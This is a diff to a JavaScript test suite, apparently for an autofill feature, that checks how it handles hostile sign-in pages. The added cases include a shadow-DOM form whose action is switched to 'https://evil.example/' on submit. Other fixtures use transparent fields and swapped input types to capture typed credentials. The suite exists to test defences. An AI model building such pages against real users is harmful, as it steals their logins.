@@ -27,6 +27,11 @@ const LATE = `<!doctype html><title>Sign in</title><script async src="/late.js">
 window.sent = null; window.presses = 0;
 document.querySelector("button").addEventListener("click", () => { presses += 1; fetch("/pressed"); });</script>`;
 const LATE_SCRIPT = `document.querySelector("form").addEventListener("submit", (event) => { event.preventDefault(); window.sent = Object.fromEntries(new FormData(event.target)); });`;
+/** A form inside of a component, whose submit event does not leave it. @param {string} script */
+const inside = (script) => `<!doctype html><title>Sign in</title><main></main><script>window.sent = null;
+const root = document.querySelector("main").attachShadow({ mode: "open" });
+root.innerHTML = '<form>${TWO}${BUTTON}</form>'; const form = root.firstChild;
+${script}</script>`;
 /** Fields with their labels in them, and transparent as long as nobody is in them. @param {string} style that shows them again */
 const faint = (style) => TWO.replaceAll("<label>", '<label class="field">') + `<style>.field { display: block; width: 400px; height: 40px; } .field input { opacity: 0; transition: opacity 0.1s; } ${style}</style>`;
 const BOTH = { username: "sam", password: "Correct-1" };
@@ -47,6 +52,8 @@ const CASES = {
   "fields that stay transparent": { html: page(faint(""), `on("input", take);`), outcome: "hidden", sent: null, left: ["", ""] },
   "a password that stays transparent": { html: page(faint(".field input:not([type=password]):focus { opacity: 1; }"), `on("input", take);`), outcome: "hidden", sent: null, left: ["", ""] },
   "a form that would write the password into the address": { html: `<!doctype html><title>Sign in</title><form>${TWO}${BUTTON}</form><script>window.sent = null;</script>`, outcome: "filled", sent: null },
+  "a form inside of a component that would write the password into the address": { html: inside(""), outcome: "filled", sent: null },
+  "a form inside of a component whose address changes in the last moment": { html: inside(`form.method = "post"; form.addEventListener("submit", () => { form.action = "https://evil.example/"; });`), outcome: "cleared" },
   "a page that puts another kind of field in the place of the password": { html: page(TWO, `on("input", (event) => { if (event.target === user) { const fresh = word.cloneNode(false); fresh.type = "text"; word.replaceWith(fresh); } });`), outcome: "changed", sent: null, left: ["", ""] },
   "a page that gives up after it put a new field in the place of the user name": { html: page(TWO, `${RENEW} on("input", (event) => { if (event.target === user) renew(user); else word.type = "text"; });`), outcome: "changed", sent: null, left: ["", ""] },
   "a page that puts a new field in its place whenever one is touched": { html: page(TWO, `${RENEW} on("focus", (event) => renew(event.target).removeAttribute("value"));`), outcome: "not-kept", sent: null, left: ["", ""] },
